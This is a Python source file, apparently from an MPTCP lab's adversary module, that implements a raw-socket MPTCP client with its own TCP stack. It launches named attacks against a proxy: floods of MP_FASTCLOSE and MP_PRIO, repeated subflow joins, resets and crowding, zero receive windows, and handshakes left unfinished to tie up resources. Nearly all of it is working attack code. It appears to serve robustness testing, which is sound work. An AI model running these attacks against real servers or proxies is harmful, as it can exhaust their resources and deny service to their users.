"""An MPTCP client with a TCP of its own, on raw sockets: it can send what no kernel would.

`python -m mptcp_lab.adversary.raw_client ATTACK PROXY PORT ADDRESS...` opens a connection from the first address, joins
it from each further address, and receives what the proxy sends. It begins the ATTACK at SIGUSR1:

    half-close   DATA_FIN, and FIN on the first subflow; it goes on receiving
    fast-close   ten MP_FASTCLOSE per second with the proxy's key, far outside the window
    rejoin       it joins from the first address repeatedly, and has each subflow closed (FIN) half a second later
    crowd        it makes ten more joins from the first address, and only then joins from each further address
    crowd-late   it makes ten more joins from the first address
    alternate    500 MP_PRIO per second on the first subflow, with B=1 and B=0 in turn
    regular      500 MP_PRIO per second on the first subflow, with B=0
    guess        200 MP_PRIO per second on the first subflow, with B=1 and B=0 in turn, the right sequence number, and
                 an acknowledgment that TCP does not take
    reuse        it joins from the first address; repeatedly it makes that subflow a backup, resets it, and joins
                 from the same port
    churn        it joins from the first address; ten times per second it resets that subflow, and joins from another
                 port
    narrow       its further subflows have a receive window of 32 kB
    close        their receive window is 0
    unfinished   its window is 0; every two seconds it begins a connection or a JOIN from a new port, in turn, and never
                 sends the third ACK
    silent       nothing

It sends a request at first, of which the proxy reads nothing, unless the attack is `silent`. IPv4 only. The kernel
there must not reset what it knows nothing of: see `attack.prepare`.
"""

from __future__ import annotations

import hashlib
import hmac
import itertools
import random
import select
import signal
import socket
import sys
import time
from ipaddress import IPv4Address
from struct import Struct
from typing import Final, NamedTuple

from mptcp_sniffer.handshake import token_of
from mptcp_sniffer.options import mptcp_options
from mptcp_sniffer.segment import Flag, parse_ip

_WORD: Final = 0xFFFF_FFFF
_LONG: Final = 0xFFFF_FFFF_FFFF_FFFF
_RETRY_SECONDS: Final = 0.2
_SIGNAL_SECONDS: Final = 0.1
_REJOIN_SECONDS: Final = 0.5
_CROWD: Final = 10
_PRIORITY_SECONDS: Final = 0.002
_GUESS_SECONDS: Final = 0.005
_CHURN_SECONDS: Final = 0.1
_REUSE_SECONDS: Final = 0.2
_UNFINISHED_SECONDS: Final = 2.0
_NARROW_WINDOW: Final = 2**15 >> 7
_MOST_SUBFLOWS: Final = 4  # of the attack `rejoin`; the kernel permits eight besides the first
_WINDOW_SHIFT: Final = 7
_WINDOW: Final = 0xFFFF  # 8 MB
_BUFFER_BYTES: Final = 2**23
_SO_RCVBUFFORCE: Final = 33  # include/uapi/asm-generic/socket.h
_ATTACKS: Final = (
    *("half-close", "fast-close", "rejoin", "crowd", "crowd-late", "alternate", "regular", "guess"),
    *("reuse", "churn", "narrow", "close", "unfinished", "silent"),
)
_OWN_MARK: Final = 1  # `attack.prepare` has all resets dropped that have no mark
_OUTSIDE: Final = 2**30
_REQUEST: Final = b"GET "
_MSS: Final = bytes((2, 4)) + (1460).to_bytes(2)
_SCALE: Final = bytes((3, 3, _WINDOW_SHIFT))
_TCP: Final = Struct("!HHIIBBHHH")
_PSEUDO: Final = Struct("!4s4sBBH")
_IPV4_TOTAL_LENGTH: Final = slice(2, 4)

# RFC 8684, section 3: subtypes in the upper four bits of the first byte; flags of MP_CAPABLE and of DSS.
_CAPABLE_V1: Final = 0x01
_JOIN: Final = 0x10
_DSS: Final = 0x20
_PRIO: Final = 0x50
_FASTCLOSE: Final = 0x70
_HMAC_SHA256: Final = 0x01
_DATA_ACK, _DATA_ACK_8, _MAPPING, _MAPPING_8, _DATA_FIN = 1, 2, 4, 8, 16


class _Dss(NamedTuple):
    """DSS of the proxy: `subflow_sequence` counts from 1 with the first byte of the subflow."""

    data_ack: int | None
    data_sequence: int | None
    subflow_sequence: int


class _Received(NamedTuple):
    """A segment of the proxy, with the length of its payload in bytes."""

    flags: int
    sequence: int
    acknowledgment: int
    length: int
    bodies: tuple[bytes, ...]


class _Intervals:
    """Which bytes of a stream have arrived, from 0; `next` is the first that has not."""

    def __init__(self) -> None:
        self.next = 0
        self._ahead: dict[int, int] = {}

    def add(self, begin: int, end: int) -> None:
        self._ahead[begin] = max(end, self._ahead.get(begin, 0))
        for start in sorted(self._ahead):
            if start > self.next:
                return
            self.next = max(self.next, self._ahead.pop(start))


class _Subflow:
    """A TCP connection from `address`; `first` is its initial sequence number, `next` the one to be sent."""

    def __init__(self, address: str, proxy: str, port: int, own_port: int | None = None) -> None:
        self.address = address
        self.own_port = own_port or random.randrange(20_000, 60_000)  # noqa: S311
        self.window = _WINDOW
        self._ends = IPv4Address(address).packed, IPv4Address(proxy).packed
        self._ports = self.own_port, port
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self._socket.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, _BUFFER_BYTES)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, _OWN_MARK)
        self._socket.bind((address, 0))
        self._socket.connect((proxy, 0))
        self._socket.setblocking(False)
        self.first = self.next = random.getrandbits(32)
        self.acknowledged = self.first
        self._proxys_first = 0
        self._arrived = _Intervals()

    def fileno(self) -> int:
        return self._socket.fileno()

    def close(self) -> None:
        self._socket.close()

    def send(
        self,
        flags: int,
        *bodies: bytes,
        plain: bytes = b"",
        payload: bytes = b"",
        sequence: int | None = None,
        behind: int = 0,
    ) -> None:
        """A segment; `plain` are encoded options, `bodies` those of MPTCP options. The `payload` has an even length.

        It acknowledges what has arrived, but `behind` bytes.
        """
        options = plain + b"".join(bytes((30, len(body) + 2)) + body for body in bodies)
        options += bytes([1]) * (-len(options) % 4)
        expected = self._proxys_first + 1 + self._arrived.next  # of a SYN, without ACK, it does not count
        words = ((_TCP.size + len(options)) // 4) << 4
        at = self.next if sequence is None else sequence
        header = (*self._ports, at & _WORD, (expected - behind) & _WORD, words, flags, self.window, 0, 0)
        segment = _TCP.pack(*header) + options + payload
        checksum = _checksum(_PSEUDO.pack(*self._ends, 0, socket.IPPROTO_TCP, len(segment)) + segment)
        self._socket.send(segment[:16] + checksum.to_bytes(2) + segment[18:])

    def receive(self) -> _Received | None:
        """A segment for this subflow, if one has arrived."""
        try:
            packet = self._socket.recv(2**17)
        except BlockingIOError:
            return None
        segment = parse_ip(packet)
        if segment is None or (segment.destination.port, segment.source.port) != self._ports:
            return None
        headers = (packet[0] & 0xF) * 4 + _TCP.size + len(segment.options)
        length = int.from_bytes(packet[_IPV4_TOTAL_LENGTH]) - headers
        if segment.flags & Flag.SYN:
            self._proxys_first, self.next = segment.sequence, (self.first + 1) & _WORD
        if segment.flags & Flag.ACK:
            self.acknowledged = segment.acknowledgment
        bodies = tuple(mptcp_options(segment.options))
        return _Received(segment.flags, segment.sequence, segment.acknowledgment, length, bodies)

    def offset(self, sequence: int) -> int:
        """The place in the subflow's stream, from 0, of a sequence number of the proxy."""
        return (sequence - self._proxys_first - 1) & _WORD

    def note(self, received: _Received) -> None:
        """Take what a segment brings."""
        begin = self.offset(received.sequence)
        self._arrived.add(begin, begin + received.length + bool(received.flags & Flag.FIN))


class RawClient:
    """A connection to the proxy."""

    def __init__(self, proxy: str, port: int, address: str) -> None:
        self._proxy = proxy, port
        self._key = random.randbytes(8)  # noqa: S311
        self._proxys_key = b""
        self._data = _Intervals()
        self._sent = self._data_acked = 0
        self._subflows = [_Subflow(address, proxy, port)]
        self._ids = itertools.count(1)
        self._open()

    def _open(self) -> None:
        first = self._subflows[0]
        hello = bytes((_CAPABLE_V1, _HMAC_SHA256))
        answer = self._exchange(first, hello)
        (self._proxys_key,) = (body[2:10] for body in answer.bodies if body[0] == _CAPABLE_V1)
        first.send(Flag.ACK, hello + self._key + self._proxys_key)
        # A connection can be joined once the proxy knows that the client has its keys: at the first DSS.
        while not self._data.next:
            self.receive(_RETRY_SECONDS)

    def ask(self) -> None:
        """Send a request, of which the proxy reads nothing."""
        first = self._subflows[0]
        sequence, first.next = first.next, (first.next + len(_REQUEST)) & _WORD
        while first.acknowledged != first.next:
            mapping = self._mapping(1, len(_REQUEST))
            first.send(Flag.ACK, self._dss(mapping), payload=_REQUEST, sequence=sequence)
            self.receive_for(_RETRY_SECONDS)
        self._sent = len(_REQUEST)

    def join(self, address: str, own_port: int | None = None) -> None:
        """Add a subflow."""
        subflow, nonce = _Subflow(address, *self._proxy, own_port), random.randbytes(4)  # noqa: S311
        answer = self._exchange(subflow, self._join_option(nonce))
        (proxys_nonce,) = (body[10:14] for body in answer.bodies if body[0] >> 4 == _JOIN >> 4)
        proof = hmac.digest(self._key + self._proxys_key, nonce + proxys_nonce, "sha256")[:20]
        subflow.send(Flag.ACK, bytes((_JOIN, 0)) + proof)
        self._subflows.append(subflow)

    def _join_option(self, nonce: bytes) -> bytes:
        """The MP_JOIN option of a SYN, with a new address id."""
        return bytes((_JOIN, next(self._ids) % 255 + 1)) + token_of(1, self._proxys_key).to_bytes(4) + nonce

    def leave_unfinished(self, *, joins: bool) -> None:
        """Begin a JOIN or a connection from a new port of the first address, and never answer the SYN/ACK."""
        subflow = _Subflow(self._subflows[0].address, *self._proxy)
        hello = bytes((_CAPABLE_V1, _HMAC_SHA256))
        option = self._join_option(random.randbytes(4)) if joins else hello  # noqa: S311
        subflow.send(Flag.SYN, option, plain=_MSS + _SCALE)
        subflow.close()

    def _exchange(self, subflow: _Subflow, body: bytes) -> _Received:
        """Send a SYN until it is answered."""
        while True:
            subflow.send(Flag.SYN, body, plain=_MSS + _SCALE)
            until = time.monotonic() + _RETRY_SECONDS
            while time.monotonic() < until:
                answer = subflow.receive()
                if answer is not None and answer.flags & Flag.SYN:
                    return answer
                if answer is not None and answer.flags & Flag.RST:
                    print(f"the proxy refuses port {subflow.own_port}", flush=True)
                select.select([subflow], [], [], _RETRY_SECONDS)

    def receive(self, seconds: float) -> None:
        """Receive and acknowledge for at most `seconds`."""
        for subflow in select.select(self._subflows, [], [], seconds)[0]:
            while (received := subflow.receive()) is not None:
                self._take(subflow, received)

    def _take(self, subflow: _Subflow, received: _Received) -> None:
        for dss in map(_dss, (body for body in received.bodies if body[0] == _DSS)):
            if dss.data_ack is not None:
                self._data_acked = (dss.data_ack - self._first_data(self._key)) & _WORD
            if dss.data_sequence is not None and received.length:
                within = subflow.offset(received.sequence) - (dss.subflow_sequence - 1)
                begin = (dss.data_sequence + within - self._first_data(self._proxys_key)) & _WORD
                self._data.add(begin, begin + received.length)
        if received.length or received.flags & Flag.FIN:
            subflow.note(received)
            subflow.send(Flag.ACK, self._dss())

    @staticmethod
    def _first_data(key: bytes) -> int:
        return int.from_bytes(hashlib.sha256(key).digest()[-8:]) + 1

    def _dss(self, mapping: bytes = b"", flags: int = 0) -> bytes:
        data_ack = (self._first_data(self._proxys_key) + self._data.next) & _LONG
        flags |= _DATA_ACK | _DATA_ACK_8 | (_MAPPING | _MAPPING_8 if mapping else 0)
        return bytes((_DSS, flags)) + data_ack.to_bytes(8) + mapping

    def _mapping(self, subflow_sequence: int, length: int) -> bytes:
        """The mapping of what follows the data that the proxy has."""
        data_sequence = (self._first_data(self._key) + self._sent) & _LONG
        return data_sequence.to_bytes(8) + subflow_sequence.to_bytes(4) + length.to_bytes(2)

    def close_half(self) -> None:
        """Close this side: the connection's, and the first subflow's."""
        # A DATA_FIN without data: subflow sequence 0, length 1 (RFC 8684, section 3.3.3).
        fin = self._dss(self._mapping(0, 1), _DATA_FIN)
        while self._data_acked <= self._sent:
            self._subflows[0].send(Flag.ACK, fin)
            self.receive_for(_RETRY_SECONDS)
        self._close(self._subflows[0])

    def _close(self, subflow: _Subflow) -> None:
        closing, subflow.next = subflow.next, (subflow.next + 1) & _WORD
        while subflow.acknowledged != subflow.next:
            subflow.send(Flag.FIN | Flag.ACK, self._dss(), sequence=closing)
            self.receive_for(_RETRY_SECONDS)

    def rejoin(self) -> None:
        """Join from the first address, and have that subflow closed."""
        self.join(self._subflows[0].address)
        self.receive_for(_REJOIN_SECONDS)
        self._close(self._subflows[-1])
        # What the oldest still receives is of no use: the proxy has sent it on other subflows, too.
        self._subflows[1:-_MOST_SUBFLOWS] = []

    def replace(self, *, same_port: bool) -> None:
        """Reset the last subflow, if there are more than those of the beginning, and join from the first address."""
        last = self._subflows[-1]
        own_port = None
        if last.address == self._subflows[0].address:
            if same_port:
                last.send(Flag.ACK, bytes((_PRIO | True,)))
            last.send(Flag.RST | Flag.ACK)
            last.close()
            self._subflows.pop()
            own_port = last.own_port if same_port else None
        self.join(self._subflows[0].address, own_port)

    def set_priority(self, *, backup: bool, behind: int = 0) -> None:
        """MP_PRIO on the first subflow."""
        self._subflows[0].send(Flag.ACK, bytes((_PRIO | backup,)), behind=behind)

    def narrow(self, window: int, *, first: int = 1) -> None:
        """From now on, all from the `first` on have this receive window, in units of its scale; 0 is the first."""
        for subflow in self._subflows[first:]:
            subflow.window = window
            subflow.send(Flag.ACK, self._dss())

    def fast_close(self) -> None:
        """MP_FASTCLOSE as the proxy's kernel ignores it."""
        first = self._subflows[0]
        first.send(Flag.ACK, bytes((_FASTCLOSE, 0)) + self._proxys_key, sequence=first.next + _OUTSIDE)

    def receive_for(self, seconds: float) -> None:
        """Receive and acknowledge for `seconds`."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            self.receive(left)


def _dss(body: bytes) -> _Dss:
    flags, rest = body[1], body[2:]
    data_ack = data_sequence = None
    subflow_sequence = 0
    if flags & _DATA_ACK:
        size = 8 if flags & _DATA_ACK_8 else 4
        data_ack, rest = int.from_bytes(rest[:size]), rest[size:]
    if flags & _MAPPING:
        size = 8 if flags & _MAPPING_8 else 4
        data_sequence, subflow_sequence = int.from_bytes(rest[:size]), int.from_bytes(rest[size : size + 4])
    return _Dss(data_ack, data_sequence, subflow_sequence)


def _checksum(data: bytes) -> int:
    total: int = sum(Struct(f"!{len(data) // 2}H").unpack(data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main(attack: str, proxy: str, port: int, addresses: list[str]) -> None:
    """Receive until the end; attack from SIGUSR1 on."""
    begin: list[bool] = []
    signal.signal(signal.SIGUSR1, lambda *_: begin.append(True))
    first, *further = addresses
    client = RawClient(proxy, port, first)
    if attack != "silent":
        client.ask()
    for address in further if attack != "crowd" else ():
        client.join(address)
    print("receiving", flush=True)
    while not begin:
        client.receive(_RETRY_SECONDS)
    if attack == "half-close":
        client.close_half()
    if attack in ("crowd", "crowd-late"):
        for address in (*[first] * _CROWD, *(further if attack == "crowd" else ())):
            client.join(address)
            client.receive_for(_SIGNAL_SECONDS)
    if attack in ("narrow", "close"):
        client.narrow(_NARROW_WINDOW if attack == "narrow" else 0)
    if attack == "unfinished":
        client.narrow(0, first=0)
    print("attacking", flush=True)
    for number in itertools.count():
        if attack == "fast-close":
            client.fast_close()
        if attack == "rejoin":
            client.rejoin()
        if attack == "unfinished":
            client.leave_unfinished(joins=number % 2 == 1)
            client.receive_for(_UNFINISHED_SECONDS)
        elif attack in ("alternate", "regular"):
            client.set_priority(backup=attack == "alternate" and number % 2 == 0)
            client.receive_for(_PRIORITY_SECONDS)
        elif attack == "guess":
            client.set_priority(backup=number % 2 == 0, behind=2**30)
            client.receive_for(_GUESS_SECONDS)
        elif attack in ("reuse", "churn"):
            client.replace(same_port=attack == "reuse")
            client.receive_for(_REUSE_SECONDS if attack == "reuse" else _CHURN_SECONDS)
        else:
            client.receive_for(_SIGNAL_SECONDS)


if __name__ == "__main__":
    match sys.argv[1:]:
        case [attack, proxy, port, *addresses] if attack in _ATTACKS:
            main(attack, proxy, int(port), addresses)
